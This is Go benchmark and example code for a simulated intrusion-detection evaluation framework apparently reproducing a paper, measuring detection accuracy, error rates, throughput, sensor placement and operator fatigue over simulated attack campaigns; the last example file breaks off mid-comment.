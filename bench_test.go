// Benchmark harness: one benchmark per table and figure of the paper,
// plus ablations for the design choices DESIGN.md calls out. Each
// benchmark regenerates its artifact (printed once, on the first
// iteration) and reports the headline quantity as a custom metric, so
// `go test -bench=. -benchmem` reproduces the paper's evaluation section
// end to end.
package repro_test

import (
	"context"
	"fmt"
	"os"
	"sync"
	"testing"
	"time"

	"repro/internal/attack"
	"repro/internal/core"
	"repro/internal/detect"
	"repro/internal/eval"
	"repro/internal/ids"
	"repro/internal/products"
	"repro/internal/report"
	"repro/internal/requirements"
	"repro/internal/simtime"
	"repro/internal/traffic"
)

// onceFor guards one-time artifact printing per benchmark.
var onces sync.Map

func printOnce(name string, f func()) {
	once, _ := onces.LoadOrStore(name, &sync.Once{})
	once.(*sync.Once).Do(f)
}

// staticCards applies every product's static observations plus uniform
// placeholder scores for the measured metrics, for benchmarks that
// exercise scorecard mechanics without the measurement harness.
func staticCards(b *testing.B, reg *core.Registry) []*core.Scorecard {
	b.Helper()
	var cards []*core.Scorecard
	for _, spec := range products.All() {
		card := core.NewScorecard(reg, spec.Name, spec.Version)
		if err := spec.ApplyStatic(card); err != nil {
			b.Fatal(err)
		}
		for _, id := range card.Missing() {
			if err := card.Set(core.Observation{MetricID: id, Score: 2}); err != nil {
				b.Fatal(err)
			}
		}
		cards = append(cards, card)
	}
	return cards
}

// BenchmarkTable1Logistical regenerates Table 1: the logistical metric
// definitions and the product field's statically-observed scores.
func BenchmarkTable1Logistical(b *testing.B) {
	reg := core.StandardRegistry()
	for i := 0; i < b.N; i++ {
		cards := staticCards(b, reg)
		printOnce("table1", func() {
			fmt.Println("\n=== Table 1: selected logistical metrics ===")
			report.MetricTable(os.Stdout, reg, core.Logistical, false)
			fmt.Println()
			report.ScoreMatrix(os.Stdout, reg, core.Logistical, cards, true)
		})
	}
}

// BenchmarkTable2Architectural regenerates Table 2: architectural metric
// definitions plus the measured architectural scores (throughput,
// load-balancing scalability, storage, sensitivity) for one product.
func BenchmarkTable2Architectural(b *testing.B) {
	reg := core.StandardRegistry()
	for i := 0; i < b.N; i++ {
		ev, err := eval.EvaluateProduct(context.Background(), products.StreamHunter(), reg, eval.Options{Seed: 11, Quick: true})
		if err != nil {
			b.Fatal(err)
		}
		o, _ := ev.Card.Get(core.MSystemThroughput)
		b.ReportMetric(float64(ev.Throughput.ZeroLossPps), "zero-loss-pps")
		printOnce("table2", func() {
			fmt.Println("\n=== Table 2: selected architectural metrics ===")
			report.MetricTable(os.Stdout, reg, core.Architectural, false)
			fmt.Println()
			report.ScoreMatrix(os.Stdout, reg, core.Architectural, []*core.Scorecard{ev.Card}, true)
			fmt.Printf("(StreamHunter system throughput scored %d: %s)\n", o.Score, o.Note)
		})
	}
}

// BenchmarkTable3Performance regenerates Table 3: the performance metric
// scores from a full measured evaluation of one product.
func BenchmarkTable3Performance(b *testing.B) {
	reg := core.StandardRegistry()
	for i := 0; i < b.N; i++ {
		ev, err := eval.EvaluateProduct(context.Background(), products.TrueSecure(), reg, eval.Options{Seed: 11, Quick: true})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(ev.Accuracy.DetectionRate*100, "detection-%")
		printOnce("table3", func() {
			fmt.Println("\n=== Table 3: selected performance metrics ===")
			report.MetricTable(os.Stdout, reg, core.Performance, false)
			fmt.Println()
			report.ScoreMatrix(os.Stdout, reg, core.Performance, []*core.Scorecard{ev.Card}, true)
		})
	}
}

// BenchmarkFigure1Pipeline exercises the generalized network-IDS
// architecture of Figure 1: load balancer -> sensors -> analyzers ->
// monitor -> console over the testbed topology, measuring pipeline
// packet throughput.
func BenchmarkFigure1Pipeline(b *testing.B) {
	tb, err := eval.NewTestbed(products.StreamHunter(), eval.TestbedConfig{
		Seed: 1, TrainFor: 2 * time.Second, BackgroundPps: 400,
	})
	if err != nil {
		b.Fatal(err)
	}
	if err := tb.Train(); err != nil {
		b.Fatal(err)
	}
	gen := tb.Gen
	b.ResetTimer()
	start := tb.Sim.Now()
	deadline := start
	for i := 0; i < b.N; i++ {
		deadline += 50 * time.Millisecond
		tb.Sim.RunUntil(deadline)
	}
	b.StopTimer()
	gen.Stop()
	st := tb.IDS.Stats()
	b.ReportMetric(float64(st.Processed)/float64(b.N), "pkts/op")
	printOnce("figure1", func() {
		fmt.Printf("\n=== Figure 1 pipeline ===\nprocessed=%d alerts=%d incidents=%d notifications=%d\n",
			st.Processed, st.AlertsRaised, st.Incidents, st.Notifications)
	})
}

// BenchmarkFigure2Cardinality verifies the Figure-2 subprocess
// cardinalities across fan-out configurations: one conditional load
// balancer per sensor pool, sensors mapped M:M onto analyzers, analyzers
// M:1 onto one monitor, monitor 1:1c console.
func BenchmarkFigure2Cardinality(b *testing.B) {
	stub := func() detect.Engine { return detect.NewStandardSignatureEngine() }
	for i := 0; i < b.N; i++ {
		for sensors := 1; sensors <= 8; sensors *= 2 {
			for analyzers := 1; analyzers <= 4; analyzers *= 2 {
				inst, err := ids.New(simtime.New(1), ids.Config{
					Name: "card", Engine: stub,
					Sensors: sensors, Analyzers: analyzers,
					Balancer: ids.BalancerDynamic, HasConsole: sensors%2 == 0,
				})
				if err != nil {
					b.Fatal(err)
				}
				c := inst.Cardinality()
				if c.Monitors != 1 || c.Balancers != 1 || len(c.SensorToAnalyze) != sensors {
					b.Fatalf("cardinality violated: %+v", c)
				}
			}
		}
	}
	printOnce("figure2", func() {
		fmt.Println("\n=== Figure 2 cardinalities hold: LB 1c:M, sensors M:M analyzers, analyzers M:1 monitor, monitor 1:1c console ===")
	})
}

// BenchmarkFigure3ErrorRatios regenerates Figure 3: the false positive
// (Type I) and false negative (Type II) ratios against ground truth,
// |D−A|/|T| and |A−D|/|T|, for every product.
func BenchmarkFigure3ErrorRatios(b *testing.B) {
	for i := 0; i < b.N; i++ {
		for _, spec := range products.All() {
			tb, err := eval.NewTestbed(spec, eval.TestbedConfig{Seed: 11, TrainFor: 8 * time.Second, BackgroundPps: 250})
			if err != nil {
				b.Fatal(err)
			}
			res, err := eval.RunAccuracy(tb, 0.6, 20*time.Second, 0.5)
			if err != nil {
				b.Fatal(err)
			}
			spec := spec
			printOnce("figure3-"+spec.Name, func() {
				fmt.Printf("\n=== Figure 3 error ratios: %s ===\n", spec.Name)
				report.AccuracySummary(os.Stdout, res)
			})
		}
	}
}

// BenchmarkFigure4EqualErrorRate regenerates Figure 4: the Type I / Type
// II error-rate curves across sensitivity and the Equal Error Rate, for
// the hybrid product (both failure directions visible).
func BenchmarkFigure4EqualErrorRate(b *testing.B) {
	for i := 0; i < b.N; i++ {
		sw, err := eval.SensitivitySweep(context.Background(), products.TrueSecure(), eval.SweepOptions{
			Seed: 7, Points: 5, TrainFor: 6 * time.Second,
			RunFor: 14 * time.Second, Pps: 200, Strength: 0.5,
		})
		if err != nil {
			b.Fatal(err)
		}
		if sw.EERValid {
			b.ReportMetric(sw.EER, "eer-sensitivity")
		}
		printOnce("figure4", func() {
			fmt.Println("\n=== Figure 4: error-rate curves and Equal Error Rate (TrueSecure) ===")
			report.ErrorCurves(os.Stdout, sw)
		})
	}
}

// BenchmarkFigure5WeightedScore regenerates Figure 5: the weighted-score
// computation S_j = Σ U_ij · W_ij over complete scorecards, including a
// negative-weight variant.
func BenchmarkFigure5WeightedScore(b *testing.B) {
	reg := core.StandardRegistry()
	cards := staticCards(b, reg)
	w := core.Uniform(reg)
	w[core.MOutsourcedSolution] = -1 // negative weights are part of the spec
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ranked, err := core.Rank(cards, w)
		if err != nil {
			b.Fatal(err)
		}
		printOnce("figure5", func() {
			fmt.Println("\n=== Figure 5: weighted scores (uniform weights, negative on Outsourced Solution) ===")
			report.Ranking(os.Stdout, ranked)
		})
	}
}

// BenchmarkFigure6RequirementMapping regenerates Figure 6: deriving
// metric weights from a partially-ordered requirement list.
func BenchmarkFigure6RequirementMapping(b *testing.B) {
	reg := core.StandardRegistry()
	for i := 0; i < b.N; i++ {
		s, w, err := requirements.Figure6Example(reg)
		if err != nil {
			b.Fatal(err)
		}
		printOnce("figure6", func() {
			fmt.Println("\n=== Figure 6: requirement-to-metric weighting example ===")
			fmt.Print(s.Describe())
			for _, id := range requirements.SortedNonZero(w) {
				m, _ := reg.Get(id)
				fmt.Printf("  %-35s weight %g\n", m.Name, w[id])
			}
		})
	}
}

// BenchmarkHostLoggingOverhead reproduces the Section-2.1 calibration:
// nominal event logging costs 3-5% of the monitored host, C2-level
// auditing ~20%, and only the latter blows real-time deadlines.
func BenchmarkHostLoggingOverhead(b *testing.B) {
	for i := 0; i < b.N; i++ {
		nominal, err := eval.MeasureOperationalImpact(products.TrueSecure(), 3)
		if err != nil {
			b.Fatal(err)
		}
		c2, err := eval.MeasureOperationalImpact(products.AgentSwarm(), 3)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(nominal.OverheadFraction*100, "nominal-%cpu")
		b.ReportMetric(c2.OverheadFraction*100, "c2-%cpu")
		printOnce("hostlog", func() {
			fmt.Printf("\n=== Section 2.1 host logging overhead ===\n"+
				"nominal: %.1f%% CPU, %d/%d deadline misses\n"+
				"C2:      %.1f%% CPU, %d/%d deadline misses\n",
				nominal.OverheadFraction*100, nominal.DeadlineMisses, nominal.JobsCompleted,
				c2.OverheadFraction*100, c2.DeadlineMisses, c2.JobsCompleted)
		})
	}
}

// BenchmarkLesson1PayloadRealism reproduces the paper's first lesson
// learned: probing with meaningless (random) payloads under-exercises
// payload-inspecting engines — keyword false positives vanish.
func BenchmarkLesson1PayloadRealism(b *testing.B) {
	run := func(random bool) *eval.AccuracyResult {
		profile := traffic.EcommerceEdge()
		if random {
			profile = profile.WithRandomPayloads()
		}
		tb, err := eval.NewTestbed(products.NetRecorder(), eval.TestbedConfig{
			Seed: 13, TrainFor: 5 * time.Second, BackgroundPps: 250, Profile: profile,
		})
		if err != nil {
			b.Fatal(err)
		}
		res, err := eval.RunAccuracy(tb, 1.0, 15*time.Second, 0.5)
		if err != nil {
			b.Fatal(err)
		}
		return res
	}
	for i := 0; i < b.N; i++ {
		realistic := run(false)
		random := run(true)
		b.ReportMetric(float64(realistic.FalseAlarms), "fa-realistic")
		b.ReportMetric(float64(random.FalseAlarms), "fa-random")
		printOnce("lesson1", func() {
			fmt.Printf("\n=== Lesson 1: payload realism ===\n"+
				"realistic payload background: %d false alarms (ratio %.4f)\n"+
				"random payload background:    %d false alarms (ratio %.4f)\n",
				realistic.FalseAlarms, realistic.FalsePositiveRatio,
				random.FalseAlarms, random.FalsePositiveRatio)
		})
	}
}

// BenchmarkFullEvaluation reproduces the paper's prototype evaluation:
// the complete scorecard run over the three commercial products and the
// research system, ranked under the real-time posture.
func BenchmarkFullEvaluation(b *testing.B) {
	reg := core.StandardRegistry()
	for i := 0; i < b.N; i++ {
		evs, err := eval.EvaluateAll(context.Background(), products.All(), reg, eval.Options{Seed: 11, Quick: true})
		if err != nil {
			b.Fatal(err)
		}
		cards := make([]*core.Scorecard, len(evs))
		for j, ev := range evs {
			cards[j] = ev.Card
		}
		w, err := requirements.DeriveWeights(requirements.RealTimeEmphasis(), reg)
		if err != nil {
			b.Fatal(err)
		}
		ranked, err := core.Rank(cards, w)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(ranked[0].Total, "winner-total")
		printOnce("fulleval", func() {
			fmt.Println("\n=== Full prototype evaluation (real-time posture) ===")
			report.Ranking(os.Stdout, ranked)
		})
	}
}

// --- Ablations ---

// BenchmarkAblationLoadBalancing compares the load-balancing disciplines'
// zero-loss throughput on the same engine: none of the paper's anchors is
// free — static placement starves, dynamic balancing scales.
func BenchmarkAblationLoadBalancing(b *testing.B) {
	disciplines := []struct {
		name string
		kind ids.BalancerKind
	}{
		{"static", ids.BalancerStatic},
		{"flow-hash", ids.BalancerFlowHash},
		{"dynamic", ids.BalancerDynamic},
	}
	for _, d := range disciplines {
		d := d
		b.Run(d.name, func(b *testing.B) {
			// A deliberately capacity-bound pool (slow signature engines,
			// 4 sensors) so the discipline is the limiting factor.
			spec := products.NetRecorder()
			spec.IDS.Sensors = 4
			spec.IDS.Balancer = d.kind
			spec.IDS.BalancerCost = 0
			spec.IDS.SensorSpeedFactor = 0.5
			for i := 0; i < b.N; i++ {
				res, err := eval.MeasureThroughput(context.Background(), spec, eval.ThroughputOptions{
					Window: 100 * time.Millisecond, LoPps: 500, HiPps: 262144, Seed: 5,
				})
				if err != nil {
					b.Fatal(err)
				}
				b.ReportMetric(res.ZeroLossPps, "zero-loss-pps")
			}
		})
	}
}

// BenchmarkAblationSeparation compares fused sensing+analysis (1:1)
// against separated (M:M with network overhead): separation delays
// reports and spends alert bandwidth.
func BenchmarkAblationSeparation(b *testing.B) {
	variants := []struct {
		name     string
		separate bool
	}{{"fused", false}, {"separated", true}}
	for _, v := range variants {
		v := v
		b.Run(v.name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				spec := products.TrueSecure()
				spec.IDS.SeparateAnalysis = v.separate
				spec.IDS.AnalysisLatency = 2 * time.Millisecond
				tb, err := eval.NewTestbed(spec, eval.TestbedConfig{Seed: 11, TrainFor: 6 * time.Second, BackgroundPps: 200})
				if err != nil {
					b.Fatal(err)
				}
				res, err := eval.RunAccuracy(tb, 0.6, 15*time.Second, 0.5)
				if err != nil {
					b.Fatal(err)
				}
				b.ReportMetric(float64(res.MeanDetectionDelay.Microseconds()), "mean-delay-us")
			}
		})
	}
}

// BenchmarkAblationMatcher compares the Aho–Corasick corpus scan against
// the naive per-pattern scan on realistic payloads.
func BenchmarkAblationMatcher(b *testing.B) {
	// A production-scale corpus: the stock rules plus several hundred
	// synthetic signatures (2002-era signature databases carried
	// thousands). Multi-pattern matching is where Aho–Corasick's
	// input-linear scan separates from the naive per-pattern loop.
	rules := detect.StandardContentRules()
	pats := make([][]byte, 0, len(rules)+500)
	for _, r := range rules {
		pats = append(pats, r.Pattern)
	}
	sim := simtime.New(9)
	rng := sim.Stream("bench")
	for i := 0; i < 500; i++ {
		sig := make([]byte, 8+rng.Intn(24))
		for j := range sig {
			sig[j] = byte('!' + rng.Intn(90))
		}
		pats = append(pats, sig)
	}
	payload := traffic.HTTPResponse(rng, 4096)
	b.Run("aho-corasick", func(b *testing.B) {
		m := detect.NewMatcher(pats)
		b.SetBytes(int64(len(payload)))
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			m.Contains(payload)
		}
	})
	b.Run("naive", func(b *testing.B) {
		b.SetBytes(int64(len(payload)))
		for i := 0; i < b.N; i++ {
			detect.NaiveScan(pats, payload)
		}
	})
}

// BenchmarkAblationTapMode compares mirrored against in-line collection:
// the induced-latency cost of putting the IDS in the forwarding path.
func BenchmarkAblationTapMode(b *testing.B) {
	for _, tap := range []eval.TapMode{eval.TapMirror, eval.TapInline} {
		tap := tap
		b.Run(tap.String(), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				res, err := eval.MeasureInducedLatency(products.NetRecorder(), tap, 3)
				if err != nil {
					b.Fatal(err)
				}
				b.ReportMetric(float64(res.Induced.Nanoseconds()), "induced-ns")
			}
		})
	}
}

// BenchmarkScenarioCampaign measures raw attack-campaign generation.
func BenchmarkScenarioCampaign(b *testing.B) {
	for i := 0; i < b.N; i++ {
		tb, err := eval.NewTestbed(products.NetRecorder(), eval.TestbedConfig{Seed: 4, TrainFor: time.Millisecond})
		if err != nil {
			b.Fatal(err)
		}
		camp := attack.NewCampaign(tb.AttackContext())
		if err := camp.SpreadAcross(0, 10*time.Second, attack.StandardScenarios(1)); err != nil {
			b.Fatal(err)
		}
		tb.Sim.Run()
	}
}

// BenchmarkExtensionOperatorFatigue runs the human-dimension extension
// (the paper's future work): the same campaign through each product's
// notification stream and a watch-stander model. Noisy products bury the
// operator; quiet ones keep every notification actionable.
func BenchmarkExtensionOperatorFatigue(b *testing.B) {
	for i := 0; i < b.N; i++ {
		for _, spec := range []products.Spec{products.NetRecorder(), products.StreamHunter()} {
			res, err := eval.MeasureHumanDimension(spec, 0.8, 11)
			if err != nil {
				b.Fatal(err)
			}
			printOnce("operator-"+spec.Name, func() {
				fmt.Printf("\n=== Human dimension: %s ===\n"+
					"notifications=%d acted-on=%d dismissed=%d unseen=%d final-vigilance=%.2f\n"+
					"wire-detected=%d/%d, human-acted-on=%d/%d\n",
					spec.Name, res.Notifications, res.Report.ActedOn, res.Report.Dismissed,
					res.Report.Unseen, res.Report.FinalVigilance,
					res.WireDetected, res.ActualIncidents, res.HumanActedOn, res.ActualIncidents)
			})
		}
	}
}

// BenchmarkExtensionEvasion measures the fragmentation-evasion ablation:
// per-packet scanning vs stream reassembly against the evasive exploit.
func BenchmarkExtensionEvasion(b *testing.B) {
	run := func(spec products.Spec) bool {
		tb, err := eval.NewTestbed(spec, eval.TestbedConfig{Seed: 17, TrainFor: 6 * time.Second, BackgroundPps: 200})
		if err != nil {
			b.Fatal(err)
		}
		if err := tb.Train(); err != nil {
			b.Fatal(err)
		}
		tb.IDS.SetSensitivity(0.5)
		camp := attack.NewCampaign(tb.AttackContext())
		if err := camp.LaunchAt(tb.Sim.Now()+time.Second, attack.Exploit{Count: 3, Evasive: true}); err != nil {
			b.Fatal(err)
		}
		tb.Sim.RunUntil(tb.Sim.Now() + 10*time.Second)
		tb.Drain()
		for _, rep := range tb.IDS.Monitor().Incidents {
			if rep.Technique == "exploit" {
				return true
			}
		}
		return false
	}
	for i := 0; i < b.N; i++ {
		reassembling := run(products.NetRecorder())
		perPacket := run(products.TrueSecure())
		printOnce("evasion", func() {
			fmt.Printf("\n=== Fragmentation evasion (Ptacek–Newsham) ===\n"+
				"NetRecorder (stream reassembly): detected=%v\n"+
				"TrueSecure (per-packet scan):    detected=%v\n",
				reassembling, perPacket)
		})
	}
}

// BenchmarkAblationDataPool measures Data Pool Selectability as the
// paper motivates it for clusters: excluding the cluster's own
// tightly-cadenced protocols (inter-node RPC, replication) from analysis
// raises sustainable zero-loss throughput on the cluster profile without
// touching the traffic external attacks ride on.
func BenchmarkAblationDataPool(b *testing.B) {
	variants := []struct {
		name string
		pool *ids.DataPool
	}{
		{"all-traffic", nil},
		{"cluster-excluded", ids.ClusterExclusionPool()},
	}
	for _, v := range variants {
		v := v
		b.Run(v.name, func(b *testing.B) {
			spec := products.NetRecorder() // capacity-bound signature sensors
			for i := 0; i < b.N; i++ {
				res, err := eval.MeasureThroughput(context.Background(), spec, eval.ThroughputOptions{
					Window: 100 * time.Millisecond, LoPps: 500, HiPps: 262144,
					Seed: 5, Profile: traffic.RealTimeCluster(), Pool: v.pool,
				})
				if err != nil {
					b.Fatal(err)
				}
				b.ReportMetric(res.ZeroLossPps, "zero-loss-pps")
			}
		})
	}
}

// BenchmarkAblationPlacement compares sensor placements on the segmented
// LAN: a central distribution-switch SPAN versus one sensor per subnet.
// The structural result behind the paper's placement warning: the
// central sensor never sees intra-subnet insider traffic.
func BenchmarkAblationPlacement(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := eval.MeasurePlacement(5)
		printOnce("placement", func() {
			fmt.Printf("\n=== Sensor placement (segmented LAN) ===\n"+
				"central SPAN:   exploit=%v insider=%v (%d attack packets seen)\n"+
				"per-subnet:     exploit=%v insider=%v (%d attack packets seen)\n",
				res.CentralSawExploit, res.CentralSawInsider, res.CentralPackets,
				res.LeafSawExploit, res.LeafSawInsider, res.LeafPackets)
		})
	}
}
