// Procurement: the paper's end-to-end story. A procurer formalizes
// requirements, maps them to metric weights (Section 3.3), evaluates the
// candidate field once, and then reuses the same evaluation under a
// different customer's weighting — the methodology's key property.
//
// Run with: go run ./examples/procurement
package main

import (
	"context"
	"fmt"
	"log"
	"os"

	"repro/internal/core"
	"repro/internal/eval"
	"repro/internal/products"
	"repro/internal/report"
	"repro/internal/requirements"
)

func main() {
	reg := core.StandardRegistry()

	// Evaluate the whole field once. The scorecards are reusable: the
	// evaluation is against a static set of metrics, so re-weighting for
	// the next customer costs nothing.
	fmt.Println("evaluating the product field (quick mode)...")
	evs, err := eval.EvaluateAll(context.Background(), products.All(), reg, eval.Options{Seed: 11, Quick: true})
	if err != nil {
		log.Fatal(err)
	}
	cards := make([]*core.Scorecard, len(evs))
	for i, ev := range evs {
		cards[i] = ev.Card
	}
	fmt.Println()

	// Customer 1: a distributed real-time combat system. Speed of
	// recognition and automatic reaction dominate.
	rt := requirements.RealTimeEmphasis()
	wRT, err := requirements.DeriveWeights(rt, reg)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("customer 1 — real-time emphasis:")
	fmt.Print(rt.Describe())
	ranked, err := core.Rank(cards, wRT)
	if err != nil {
		log.Fatal(err)
	}
	if err := report.Ranking(os.Stdout, ranked); err != nil {
		log.Fatal(err)
	}
	fmt.Println()

	// Customer 2: a high-trust distributed cluster. The false negative
	// ratio must be driven as low as possible, accepting extra false
	// positives (Section 3.3).
	dist := requirements.DistributedEmphasis()
	wDist, err := requirements.DeriveWeights(dist, reg)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("customer 2 — distributed high-trust emphasis:")
	fmt.Print(dist.Describe())
	ranked2, err := core.Rank(cards, wDist)
	if err != nil {
		log.Fatal(err)
	}
	if err := report.Ranking(os.Stdout, ranked2); err != nil {
		log.Fatal(err)
	}
	fmt.Println()

	// Negative weights: this customer considers outsourced operation
	// actively counterproductive (vendor scans could disrupt a combat
	// system), so the metric gets a negative weight on top of customer
	// 1's posture.
	wNeg := make(core.Weights, len(wRT))
	for k, v := range wRT {
		wNeg[k] = v
	}
	wNeg[core.MOutsourcedSolution] = -2
	ranked3, err := core.Rank(cards, wNeg)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("customer 1 with a negative weight on Outsourced Solution:")
	if err := report.Ranking(os.Stdout, ranked3); err != nil {
		log.Fatal(err)
	}

	if ranked[0].System != ranked2[0].System {
		fmt.Printf("\nnote: the two customers select different products (%s vs %s) from the SAME evaluation —\n"+
			"the scorecard was computed once and re-weighted.\n",
			ranked[0].System, ranked2[0].System)
	} else {
		fmt.Printf("\nboth postures select %s on this run; the class subtotals show how differently it wins.\n",
			ranked[0].System)
	}
}
