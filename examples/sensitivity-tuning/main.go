// Sensitivity-tuning: reproduce the Figure-4 exercise for an operator —
// sweep the sensitivity knob, plot both error curves, find the Equal
// Error Rate, and then apply the paper's advice for distributed systems
// (prefer lower Type II even at higher Type I) by picking an operating
// point above the EER.
//
// Run with: go run ./examples/sensitivity-tuning
package main

import (
	"context"
	"fmt"
	"log"
	"os"
	"time"

	"repro/internal/eval"
	"repro/internal/products"
	"repro/internal/report"
)

func main() {
	// A hybrid product shows both failure modes: signature misses fall as
	// anomaly rules arm, false alarms rise with them.
	spec := products.TrueSecure()

	fmt.Printf("sweeping %s sensitivity (this runs %d full testbed experiments)...\n\n", spec.Name, 5)
	sw, err := eval.SensitivitySweep(context.Background(), spec, eval.SweepOptions{
		Seed:     7,
		Points:   5,
		TrainFor: 8 * time.Second,
		RunFor:   18 * time.Second,
		Pps:      250,
		Strength: 0.5,
	})
	if err != nil {
		log.Fatal(err)
	}
	if err := report.ErrorCurves(os.Stdout, sw); err != nil {
		log.Fatal(err)
	}

	// Operating-point advice. The paper: "users might prefer to have
	// lower Type II error at the expense of higher Type I error rates",
	// and for distributed systems, drive the false negative ratio "to the
	// lowest possible level accepting an increased false positive alert
	// ratio".
	best := sw.Points[0]
	for _, p := range sw.Points {
		if p.TypeII < best.TypeII || (p.TypeII == best.TypeII && p.TypeI < best.TypeI) {
			best = p
		}
	}
	fmt.Printf("\nrecommended distributed-system operating point: sensitivity %.2f\n", best.Sensitivity)
	fmt.Printf("  Type II (missed attacks): %.1f%%   Type I (false alarms): %.2f%% of transactions\n",
		best.TypeII, best.TypeI)
	if sw.EERValid {
		fmt.Printf("  (equal error rate sits at sensitivity %.2f, %.2f%% — the distributed posture operates above it)\n",
			sw.EER, sw.EERError)
	}
	eff := sw.Effect()
	fmt.Printf("\nAdjustable Sensitivity evidence: Type II moved %.1f points, Type I moved %.2f points, directions ok=%v\n",
		eff.TypeIIRange, eff.TypeIRange, eff.TradeoffDirectionOK)

	// The paper's distributed-systems advice accepts more false alarms —
	// but alarms land on a human. Check what the chosen operating point
	// does to the watch-stander before committing to it.
	human, err := eval.MeasureHumanDimension(spec, best.Sensitivity, 7)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nat sensitivity %.2f the operator receives %d notifications: %d acted on, %d dismissed, %d unseen (vigilance %.2f)\n",
		best.Sensitivity, human.Notifications, human.Report.ActedOn,
		human.Report.Dismissed, human.Report.Unseen, human.Report.FinalVigilance)
	if human.Report.Unseen > 0 {
		fmt.Println("the alert volume already exceeds one operator's queue — tune down, add operators, or accept unseen alerts.")
	}
}
