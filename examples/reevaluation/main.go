// Re-evaluation: the paper's Section-4 lesson that "continual
// re-evaluation is especially important since vendors rapidly update
// their products." The vendor ships NetRecorder 5.1 with an updated
// signature set (a DNS-tunnel heuristic); the same scorecard methodology
// re-runs unchanged, and the delta is visible in exactly the metrics the
// update should move.
//
// Run with: go run ./examples/reevaluation
package main

import (
	"fmt"
	"log"
	"time"

	"repro/internal/attack"
	"repro/internal/eval"
	"repro/internal/products"
)

func runCampaign(spec products.Spec) *eval.AccuracyResult {
	tb, err := eval.NewTestbed(spec, eval.TestbedConfig{
		Seed: 11, TrainFor: 10 * time.Second, BackgroundPps: 300,
	})
	if err != nil {
		log.Fatal(err)
	}
	res, err := eval.RunAccuracy(tb, 0.6, 25*time.Second, attack.Intensity(1))
	if err != nil {
		log.Fatal(err)
	}
	return res
}

func main() {
	v50 := products.NetRecorder()
	v51 := products.NetRecorder51()

	fmt.Printf("re-evaluating %s %s -> %s after a vendor signature update...\n\n",
		v50.Name, v50.Version, v51.Version)

	before := runCampaign(v50)
	after := runCampaign(v51)

	fmt.Printf("%-16s %12s %12s\n", "technique", "v"+v50.Version, "v"+v51.Version)
	for _, tech := range before.Techniques() {
		mark := func(ok bool) string {
			if ok {
				return "detected"
			}
			return "MISSED"
		}
		fmt.Printf("%-16s %12s %12s\n", tech, mark(before.ByTechnique[tech]), mark(after.ByTechnique[tech]))
	}
	fmt.Printf("\nmiss rate: %.2f -> %.2f   false alarms: %d -> %d (of %d transactions)\n",
		before.MissRate, after.MissRate, before.FalseAlarms, after.FalseAlarms, after.Transactions)

	if !before.ByTechnique[attack.TechTunnel] && after.ByTechnique[attack.TechTunnel] {
		fmt.Println("\nthe 5.1 signature update closes the DNS-tunnel gap; the scorecard's")
		fmt.Println("Observed False Negative Ratio entry would move accordingly — same")
		fmt.Println("metrics, same weights, new product score. That is the re-evaluation")
		fmt.Println("workflow the methodology was built to make cheap.")
	} else {
		fmt.Println("\nnote: tunnel outcome did not flip on this seed; see EXPERIMENTS.md")
	}
}
