// Quickstart: evaluate one simulated IDS product against the paper's
// metric scorecard and print its weighted score.
//
// Run with: go run ./examples/quickstart
package main

import (
	"context"
	"fmt"
	"log"
	"os"

	"repro/internal/core"
	"repro/internal/eval"
	"repro/internal/products"
	"repro/internal/report"
)

func main() {
	// 1. The fixed standard: the paper's full metric registry (Tables 1-3
	//    plus every metric the paper names).
	reg := core.StandardRegistry()
	fmt.Printf("metric standard: %d metrics in %d classes\n\n", reg.Len(), len(core.Classes))

	// 2. A system under test: the RealSecure-class commercial product.
	spec := products.TrueSecure()

	// 3. Run the full measurement harness: accuracy campaign, throughput
	//    search, lethal dose, induced latency, host impact, sensitivity
	//    sweep. Quick mode shrinks durations for a fast demo.
	ev, err := eval.EvaluateProduct(context.Background(), spec, reg, eval.Options{Seed: 11, Quick: true})
	if err != nil {
		log.Fatal(err)
	}

	// 4. The scorecard is complete: every metric observed either by
	//    analysis (measured) or open-source material (vendor docs).
	if !ev.Card.Complete() {
		log.Fatalf("incomplete scorecard: %v", ev.Card.Missing())
	}
	if err := report.EvaluationReport(os.Stdout, ev); err != nil {
		log.Fatal(err)
	}

	// 5. Weighted score under uniform weights (Figure 5).
	ws, err := ev.Card.Evaluate(core.Uniform(reg))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("uniform-weight totals: S1=%.0f S2=%.0f S3=%.0f total=%.0f\n",
		ws.ByClass[core.Logistical], ws.ByClass[core.Architectural],
		ws.ByClass[core.Performance], ws.Total)
}
