// Cluster-monitoring: deploy an IDS over a distributed real-time cluster,
// run the high-trust east-west workload the paper's sponsors care about,
// inject an insider compromise, and show (a) detection through host
// agents, (b) the trust-graph compromise scope, and (c) the cost of
// C2-level auditing on real-time deadlines.
//
// Run with: go run ./examples/cluster-monitoring
package main

import (
	"fmt"
	"log"
	"time"

	"repro/internal/attack"
	"repro/internal/eval"
	"repro/internal/hostmon"
	"repro/internal/products"
	"repro/internal/rts"
	"repro/internal/traffic"
)

func main() {
	// The AAFID-class research system: host-based autonomous agents with
	// C2-level auditing — maximum host visibility, maximum host cost.
	spec := products.AgentSwarm()

	tb, err := eval.NewTestbed(spec, eval.TestbedConfig{
		Seed:          3,
		ClusterHosts:  6,
		Profile:       traffic.RealTimeCluster(), // east-west dominated
		TrainFor:      30 * time.Second,
		BackgroundPps: 400,
	})
	if err != nil {
		log.Fatal(err)
	}

	// Each node also runs its normal host workload: audit events flow at
	// the standard ~800 events/sec, which is what makes C2-level logging
	// cost what the paper says it costs.
	var gens []*hostmon.ActivityGenerator
	for _, agent := range tb.Agents() {
		g, err := hostmon.NewActivityGenerator(tb.Sim, agent, 800)
		if err != nil {
			log.Fatal(err)
		}
		gens = append(gens, g)
	}

	fmt.Println("training baselines on clean cluster traffic (30s virtual)...")
	if err := tb.Train(); err != nil {
		log.Fatal(err)
	}
	if err := tb.IDS.SetSensitivity(0.6); err != nil {
		log.Fatal(err)
	}

	// Inject an insider compromise and a masquerade — the threats the
